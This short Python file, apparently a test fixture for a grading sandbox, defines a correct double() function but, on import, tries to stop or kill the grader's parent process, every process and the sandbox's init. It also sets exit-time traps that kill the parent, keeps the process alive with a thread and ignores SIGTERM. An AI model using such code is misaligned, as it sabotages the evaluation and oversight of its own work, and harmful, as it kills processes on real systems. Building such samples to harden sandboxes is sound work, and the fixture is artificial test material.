"""A correct double() whose import tries to kill the grader's processes and leaves exit-time traps."""
import atexit
import ctypes
import os
import signal
import subprocess
import threading
import weakref

ATTEMPTS = []


def attempt(name, fn):
    try:
        fn()
        ATTEMPTS.append(f"{name}: done")
    except BaseException as e:  # noqa: BLE001
        ATTEMPTS.append(f"{name}: {type(e).__name__}")


parent = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
attempt("stop the parent", lambda: os.kill(parent, signal.SIGSTOP))
attempt("kill the parent", lambda: os.kill(parent, signal.SIGKILL))
attempt("kill every process", lambda: os.kill(-1, signal.SIGKILL))
attempt("kill the sandbox init", lambda: os.kill(1, signal.SIGKILL))
attempt("kill the parent's group", lambda: os.killpg(os.getpgid(parent), signal.SIGKILL))
attempt("libc kill of the parent", lambda: libc.kill(parent, signal.SIGKILL) == 0 or (_ for _ in ()).throw(OSError()))
attempt("libc kill(-1)", lambda: libc.kill(-1, signal.SIGKILL) == 0 or (_ for _ in ()).throw(OSError()))
attempt("/bin/kill -9 -1", lambda: subprocess.run(["/bin/kill", "-9", "-1"], capture_output=True, timeout=2))
attempt("/bin/kill the parent", lambda: subprocess.run(["/bin/kill", "-9", str(parent)], capture_output=True, timeout=2))


def at_exit():
    os.kill(parent, signal.SIGKILL)
    open("@@MARKER@@", "w").write("atexit ran")


atexit.register(at_exit)
class Trap:
    pass


TRAP = Trap()
weakref.finalize(TRAP, at_exit)
threading.Thread(target=lambda: threading.Event().wait(3600), daemon=False).start()  # tries to keep the process alive
signal.signal(signal.SIGTERM, signal.SIG_IGN)


def double(x: int) -> int:
    return 2 * x
